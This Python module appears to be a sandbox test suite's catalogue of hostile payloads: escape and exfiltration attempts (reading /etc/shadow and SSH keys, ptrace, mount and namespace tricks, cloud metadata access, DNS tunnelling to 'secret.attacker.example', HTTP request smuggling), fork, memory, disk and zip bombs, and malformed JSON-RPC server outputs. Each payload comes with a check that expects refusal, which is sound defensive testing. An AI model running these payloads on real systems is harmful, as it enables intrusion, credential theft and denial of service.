"""What hostile code tries from inside a sandbox, as data: `test_hostile.py` runs each against every backend.

A payload is Python that has `asked` (what it may aim at on the host), `attempt(action)` and `say(value)`. It does its
worst and says what it got; `hostile_world.py` knows what must never be among it, and what must never arrive outside.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from lockstep.sandbox.contract import Limits

PRELUDE = """
import json, os, socket, sys, time
asked = json.loads(sys.stdin.readline())
def attempt(action, *arguments):
    try:
        return repr(action(*arguments))[:20000]
    except BaseException as error:
        return "refused: " + type(error).__name__
def say(value):
    print(json.dumps(value), flush=True)
def read(path):
    with open(path, "rb") as file:
        return file.read(100_000)
def connect(address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as end:
        end.settimeout(2)
        end.connect(address)
        end.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        return end.recv(1000)
def through_proxy(text):
    with socket.socket(socket.AF_UNIX) as end:
        end.settimeout(10)
        end.connect("/run/egress.sock")
        end.sendall(text.encode())
        heard = b""
        while piece := end.recv(65536):
            heard += piece
        return heard.decode(errors="replace")
def libc(number, *arguments):
    import ctypes
    c = ctypes.CDLL(None, use_errno=True)
    return c.syscall(number, *arguments), ctypes.get_errno()
"""


@dataclass(frozen=True, kw_only=True)
class Payload:
    """One attack. `passes(said)` is checked on top of what holds for all; tight `limits` make bombs short."""

    name: str
    code: str
    limits: Limits = field(default_factory=lambda: Limits(wall_s=40))
    egress: bool = False
    passes: Callable[[Any], bool] = lambda said: True
    may_end: bool = True
    """Whether ending without an answer (killed, crashed, out of a limit) is fine as well."""
    twice: bool = False
    """Whether the first run only prepares what a second one looks for."""


def _all_refused(said: Any) -> bool:
    return bool(said) and all(str(each).startswith("refused") for each in said.values())


def _refused_by_this_kernel(said: Any) -> bool:
    """gVisor's kernel has an io_uring of its own, in its own memory; every other kernel here is a real one."""
    release = said.pop("release")
    if release == "4.4.0":
        del said["io_uring"]
    return _failed_calls(said)


def _failed_calls(said: Any) -> bool:
    return bool(said) and all(result < 0 for result, _ in said.values())


SMALL = Limits(memory_bytes=256 * 2**20, wall_s=40, cpu_s=20, processes=8, disk_bytes=32 * 2**20)

PAYLOADS = (
    Payload(
        name="files of the host",
        code="""
paths = [asked["secret"], "/etc/shadow", "/root/.ssh/id_rsa", "/etc/machine-id", "/var/lib/dpkg/status"]
paths += [f"/proc/{pid}/root{asked['secret']}" for pid in ("1", "self", "thread-self")]
paths += [f"/tool/../..{asked['secret']}", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/vda1"]
say({path: attempt(read, path) for path in paths})
""",
        passes=_all_refused,
        may_end=False,
    ),
    Payload(
        name="links out of the tool's directory",
        code="""
found = {}
for name in ("link", "deep/link"):
    found[name] = attempt(read, f"/tool/{name}")
os.symlink(asked["secret"], "/work/link")
found["own"] = attempt(read, "/work/link")
found["hard"] = attempt(os.link, asked["secret"], "/work/hard")
found["write"] = attempt(open, "/tool/code.py", "w")
say(found)
""",
        passes=_all_refused,
        may_end=False,
    ),
    Payload(
        name="kernel memory and sysrq",
        code="""
found = {path: attempt(read, path) for path in ("/proc/kcore", "/proc/kallsyms_", "/dev/port", "/proc/kmsg")}
found["sysrq"] = attempt(lambda: os.write(os.open("/proc/sysrq-trigger", os.O_WRONLY), b"h"))
found["core_pattern"] = attempt(lambda: os.write(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY), b"|/x"))
found["release_agent"] = attempt(lambda: os.write(os.open("/sys/fs/cgroup/release_agent", os.O_WRONLY), b"/x"))
say(found)
""",
        passes=_all_refused,
        may_end=False,
    ),
    Payload(
        name="environment of others",
        code="""
said = {"own": dict(os.environ)}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline", "maps", "mem"):
            said[f"{pid}/{part}"] = attempt(read, f"/proc/{pid}/{part}")
say(said)
""",
        may_end=False,
    ),
    Payload(
        name="inherited descriptors",
        code="""
open_ones = []
for number in range(3, 1024):
    try:
        open_ones.append([number, os.readlink(f"/proc/self/fd/{number}"), attempt(os.read, number, 1000)])
    except OSError:
        pass
say(open_ones)
""",
        passes=lambda said: said == [],
        may_end=False,
    ),
    Payload(
        name="ptrace and the memory of others",
        code="""
import ctypes
buffer = ctypes.create_string_buffer(64)
others = [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
found = {}
for pid in [*others, asked["pid"]]:
    found[f"attach {pid}"] = libc(101, 16, pid, 0, 0)
    found[f"seize {pid}"] = libc(101, 0x4206, pid, 0, 0)
    found[f"readv {pid}"] = libc(310, pid, buffer, 1, buffer, 1, 0)
say(found)
""",
        passes=_failed_calls,
    ),
    Payload(
        name="bpf, perf, keyctl, userfaultfd, io_uring",
        code="""
import ctypes
zero = ctypes.create_string_buffer(256)
say({
    "bpf": libc(321, 0, zero, 72), "perf": libc(298, zero, 0, -1, -1, 0),
    "add_key": libc(248, b"user", b"x", b"y", 1, -3),
    "keyctl": libc(250, 0, -3, 1), "userfaultfd": libc(323, 0), "io_uring": libc(425, 8, zero),
    "release": os.uname().release,
})
""",
        passes=_refused_by_this_kernel,
    ),
    Payload(
        name="mount and pivot_root",
        code="""
import ctypes
c = ctypes.CDLL(None, use_errno=True)
os.mkdir("/work/new")
say({
    "tmpfs": [c.mount(b"none", b"/work/new", b"tmpfs", 0, None), 0],
    "proc": [c.mount(b"none", b"/work/new", b"proc", 0, None), 0],
    "bind": [c.mount(b"/", b"/work/new", None, 4096, None), 0],
    "remount": [c.mount(b"none", b"/tool", None, 4096 | 32, None), 0],
    "umount": [c.umount2(b"/tool", 2), 0],
    "pivot": libc(155, b"/work/new", b"/work/new"), "chroot": [c.chroot(b"/work/new"), 0],
    "open_tree": libc(428, -100, b"/", 1), "fsopen": libc(430, b"tmpfs", 0),
})
""",
        passes=_failed_calls,
    ),
    Payload(
        name="namespaces of one's own, then the host's files",
        code="""
import ctypes
c = ctypes.CDLL(None, use_errno=True)
said = {"unshare": c.unshare(0x10000000 | 0x00020000 | 0x40000000)}
said["maps"] = attempt(lambda: open("/proc/self/setgroups", "w").write("deny"))
said["uid"] = attempt(lambda: open("/proc/self/uid_map", "w").write(f"0 {os.getuid()} 1"))
os.makedirs("/work/m", exist_ok=True)
said["mount"] = c.mount(b"none", b"/work/m", b"proc", 0, None)
said["secret"] = attempt(read, asked["secret"])
said["secret in root"] = attempt(read, f"/proc/1/root{asked['secret']}")
said["loopback"] = attempt(connect, ("127.0.0.1", asked["denied"]))
said["setns"] = c.setns(0, 0)
say(said)
""",
        passes=lambda said: said["secret"].startswith("refused") and said["loopback"].startswith("refused"),
    ),
    Payload(
        name="raw, packet, netlink and vsock sockets",
        code="""
found = {
    "raw": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"x" * 8, ("127.0.0.1", 0))),
    "packet": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).bind(("eth0", 0))),
}
for cid in (0, 1, 2, 3):
    found[f"vsock {cid}"] = attempt(connect, (cid, asked["denied"]), 40)
say(found)
""",
        passes=_all_refused,
    ),
    Payload(
        name="metadata service and private networks",
        code="""
say({host: attempt(connect, (host, 80)) for host in ("169.254.169.254", "10.0.0.1", "192.168.0.1", "100.100.100.200")})
""",
        passes=_all_refused,
    ),
    Payload(
        name="loopback and sockets of the host",
        code="""
found = {"tcp": attempt(connect, ("127.0.0.1", asked["denied"])), "abstract": attempt(connect, asked["abstract"], 1)}
found["path"] = attempt(connect, asked["unix"], 1)
found["v6"] = attempt(connect, ("::1", asked["denied"]), socket.AF_INET6)
for name in ("/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "/run/egress.sock"):
    found[name] = attempt(connect, name, 1)
say(found)
""",
        passes=_all_refused,
    ),
    Payload(
        name="DNS as a tunnel",
        code="""
found = {"lookup": attempt(socket.getaddrinfo, "secret.attacker.example", 80)}
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
    end.settimeout(2)
    for host in ("127.0.0.1", "8.8.8.8"):
        def tell():
            end.sendto(b"secret", (host, asked["udp"] if host == "127.0.0.1" else 53))
            return end.recv(100)
        found[host] = attempt(tell)
say(found)
""",
        passes=_all_refused,
    ),
    Payload(
        name="DNS as a tunnel, by the proxy",
        egress=True,
        code="""
say([through_proxy(f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")[:12]
     for host in ("secret.attacker.example", "localhost:" + asked["allowed"].split(":")[1], "127.1:80", "[::1]:80")])
""",
        passes=lambda said: all(" 403" in each or " 400" in each or " 502" in each for each in said),
    ),
    Payload(
        name="another Host than the one asked for",
        egress=True,
        code="""
host = asked["allowed"]
say([
    through_proxy(f"GET http://{host}/v1/host HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"),
    through_proxy(f"GET http://{host}/v1/host HTTP/1.1\\r\\nHost: {host}\\r\\nHost: other.example\\r\\n\\r\\n"),
    through_proxy(f"GET /v1/host HTTP/1.1\\r\\nHost: 127.0.0.1:{asked['denied']}\\r\\n\\r\\n"),
])
""",
        passes=lambda said: not any("other.example" in each and " 200" in each.split("\n")[0] for each in said),
    ),
    Payload(
        name="a relayed CONNECT",
        egress=True,
        code="""
host = asked["allowed"]
inner = f"CONNECT 127.0.0.1:{asked['denied']} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n"
say([
    through_proxy(f"CONNECT 127.0.0.1:{asked['denied']} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"),
    through_proxy(f"CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n" + inner),
    through_proxy(f"POST http://{host}/v1/proxy HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\n\\r\\n" + inner),
])
""",
        passes=lambda said: " 403" in said[0] and " 403" in said[1],
    ),
    Payload(
        name="a redirect to a denied host",
        egress=True,
        code="""
sys.path.insert(0, "/lib_egress")
import urllib.request
heard = through_proxy(f"GET http://{asked['allowed']}/v1/redirect HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
place = [line for line in heard.split("\\r\\n") if line.lower().startswith("location:")][0].split(" ", 1)[1]
say([heard[:12], through_proxy(f"GET {place} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")[:12]])
""",
        passes=lambda said: " 302" in said[0] and " 403" in said[1],
    ),
    Payload(
        name="methods, paths and requests smuggled behind others",
        egress=True,
        code="""
host, end = asked["allowed"], "HTTP/1.1\\r\\nHost: x\\r\\n"
lines = [
    f"DELETE http://{host}/v1 {end}\\r\\n",
    f"GET http://{host}/admin {end}\\r\\n",
    f"GET http://{host}/v1/../admin {end}\\r\\n",
    f"GET http://{host}/v1/%2e%2e/admin {end}\\r\\n",
    f"GET http://{host}/v1%2f..%2fadmin {end}\\r\\n",
    f"GET http://{host}//v1 {end}\\r\\n",
    f"GET http://{host}@127.0.0.1:{asked['denied']}/v1 {end}\\r\\n",
    f"POST http://{host}/v1 {end}Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
    f"GET http://{host}/v1 {end}\\r\\nGET http://{host}/admin {end}\\r\\n",
]
say([through_proxy(line) for line in lines])
""",
        passes=lambda said: not any("admin" in each and " 200" in each for each in said),
    ),
    Payload(
        name="a secret's placeholder sent to a wrong place",
        egress=True,
        code="""
key, host, other = os.environ["KEY"], asked["allowed"], f"127.0.0.1:{asked['other']}"
say([
    through_proxy(f"GET http://{other}/v1 HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: {key}\\r\\n\\r\\n"),
    through_proxy(f"GET http://{host}/v1/echo?k={key} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"),
    through_proxy(f"GET http://{host}/v1/echo HTTP/1.1\\r\\nHost: x\\r\\nX-Key: {key}\\r\\n\\r\\n"),
    through_proxy(f"POST http://{host}/v1/echo HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {len(key)}\\r\\n\\r\\n{key}"),
])
""",
        passes=lambda said: all(" 403" in each.split("\n")[0] for each in said),
    ),
    Payload(
        name="a secret reflected in a reply",
        egress=True,
        code="""
key, host = os.environ["KEY"], asked["allowed"]
say(through_proxy(f"GET http://{host}/v1/echo HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer {key}\\r\\n\\r\\n"))
""",
        passes=lambda said: " 200" in said.split("\n")[0],
        may_end=False,
    ),
    Payload(
        name="a memory bomb",
        limits=SMALL,
        code="""
held = []
while True:
    held.append(bytearray(os.urandom(1 << 20) * 16))
""",
    ),
    Payload(
        name="a memory bomb of many processes",
        limits=SMALL,
        code="""
for _ in range(6):
    if os.fork() == 0:
        held = bytearray(os.urandom(1 << 20) * 120)
        time.sleep(1000)
time.sleep(1000)
""",
    ),
    Payload(
        name="a fork bomb",
        limits=SMALL,
        code="""
count = 0
try:
    while count < 5000:
        if os.fork() == 0:
            time.sleep(1000)
        count += 1
except OSError:
    pass
say(count)
""",
        passes=lambda said: said < 100,
    ),
    Payload(
        name="a disk filled",
        limits=SMALL,
        code="""
written = 0
for folder in ("/work", "/tmp", "/dev/shm", "/run", "/"):
    try:
        for number in range(200):
            with open(f"{folder}/fill{number}", "wb") as file:
                for _ in range(8):
                    file.write(b"x" * 2**20)
                    written += 1
    except OSError:
        pass
say(written)
""",
        passes=lambda said: said <= 64,
    ),
    Payload(
        name="inodes filled",
        limits=SMALL,
        code="""
made = 0
try:
    while True:
        os.mkdir(f"/work/{made}")
        made += 1
except OSError:
    pass
say(made)
""",
        passes=lambda said: said < 2**14,  # where it answers; elsewhere each counts as memory, and that ends it
    ),
    Payload(
        name="descriptors used up",
        limits=SMALL,
        code="""
held = []
try:
    while len(held) < 100_000:
        held.append(os.open("/dev/null", os.O_RDONLY))
except OSError:
    pass
say(len(held))
""",
        passes=lambda said: said <= 256,
        may_end=False,
    ),
    Payload(
        name="a spin",
        limits=Limits(cpu_s=1, wall_s=20),
        code="while True: pass",
    ),
    Payload(
        name="output without end",
        limits=SMALL,
        code="""
while True:
    sys.stdout.write("x" * 65536 + "\\n")
""",
    ),
    Payload(
        name="a line without end, on both streams",
        limits=SMALL,
        code="""
while True:
    os.write(1, b"x" * 65536)
    os.write(2, b"y" * 65536)
""",
    ),
    Payload(
        name="a zip bomb",
        limits=SMALL,
        code="""
import io, zipfile
data = io.BytesIO()
with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as bomb:
    with bomb.open("x", "w", force_zip64=True) as inside:
        for _ in range(64):
            inside.write(bytes(2**20))
with zipfile.ZipFile(data) as bomb:
    say(attempt(bomb.extractall, "/work"))
""",
        passes=lambda said: said.startswith("refused"),
    ),
    Payload(
        name="a daemon that outlives the call",
        code="""
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        import signal
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            attempt(connect, ("127.0.0.1", asked["denied"]))
            time.sleep(0.2)
say("left")
""",
        may_end=False,
    ),
    Payload(
        name="state left for the next call",
        twice=True,
        code="""
found = {}
for folder in ("/work", "/tmp", "/dev/shm", "/run", "/var/tmp"):
    found[folder] = attempt(lambda: [name for name in os.listdir(folder) if name.startswith("left")])
    attempt(lambda: open(f"{folder}/left", "w").write("state"))
say(found)
""",
        passes=lambda said: all(each == "[]" or each.startswith("refused") for each in said.values()),
        may_end=False,
    ),
    Payload(
        name="signals to others",
        code="""
import signal
for pid in {asked["pid"], -1, 0} | {int(pid) for pid in os.listdir("/proc") if pid.isdigit()} - {os.getpid()}:
    if pid != 0:
        attempt(os.kill, pid, signal.SIGKILL)
say("sent")
""",
    ),
    Payload(
        name="privileges by file and by call",
        code="""
found = {f"set{kind}": attempt(getattr(os, f"set{kind}"), 0) for kind in ("uid", "gid", "euid")}
found["groups"] = attempt(os.setgroups, [0])
found["suid"] = str(os.system("/usr/bin/su -c id >/dev/null 2>&1 < /dev/null"))
found["nice"] = attempt(os.nice, -10)
found["uid"] = os.getuid()
say(found)
""",
        passes=lambda said: said["uid"] == 65534 and said["setuid"].startswith("refused") and said["suid"] != "0",
    ),
    Payload(
        name="the clock and the name of the machine",
        code="""
say({"clock": attempt(time.clock_settime, time.CLOCK_REALTIME, 0), "name": attempt(socket.sethostname, "mine")})
""",
        passes=_all_refused,
        may_end=False,
    ),
)

SERVERS = {
    "forged frames": "for n in range(2000): print(json.dumps({'jsonrpc': '2.0', 'id': 90000 + n, 'result': {}}))",
    "an oversized frame": 'sys.stdout.write(\'{"jsonrpc": "2.0", "id": 1, "result": "\' + \'x\' * (9 * 2**20))',
    "a deeply nested frame": "print('[' * 100_000)",
    "not JSON": "print('hello'); print('\\x00\\xff')",
    "a reply of the wrong shape": "print(json.dumps({'jsonrpc': '2.0', 'id': 1, 'result': [1, 2]}))",
    "a list of tools without end": (
        "for line in sys.stdin:\n    i = json.loads(line).get('id')\n"
        "    reply = {'jsonrpc': '2.0', 'id': i, 'result': {'tools': [], 'nextCursor': 'x'}}\n"
        "    if i: print(json.dumps(reply), flush=True)"
    ),
    "requests instead of replies": (
        "for n in range(3000): print(json.dumps({'jsonrpc': '2.0', 'id': n, 'method': 'sampling/createMessage'}))"
    ),
    "silence": "import time; time.sleep(1000)",
    "an end in the middle": "sys.stdout.write('{\"jsonrpc\"'); sys.stdout.flush(); os._exit(0)",
}
"""What a hostile server does instead of speaking the protocol, by name."""
